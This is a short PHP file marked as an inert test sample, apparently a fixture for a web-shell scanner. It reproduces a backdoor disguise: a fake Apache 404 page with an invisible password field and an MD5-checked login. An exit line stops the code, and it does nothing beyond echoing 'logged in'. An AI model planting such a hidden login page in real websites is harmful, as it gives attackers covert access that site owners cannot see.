<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

header('HTTP/1.0 404 Not Found');
?>
<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">
<html><head><title>404 Not Found</title></head><body>
<h1>Not Found</h1>
<p>The requested URL was not found on this server.</p>
<hr>
<address>Apache Server at example.com Port 80</address>
<style>input{margin:0;background-color:#fff;border:1px solid #fff;}</style>
<center><form method="post"><input type="password" name="pass"></form></center>
</body></html>
<?php
if (isset($_POST['pass']) && md5($_POST['pass']) == '5f4dcc3b5aa765d61d8327deb882cf99') {
    echo 'logged in';
}
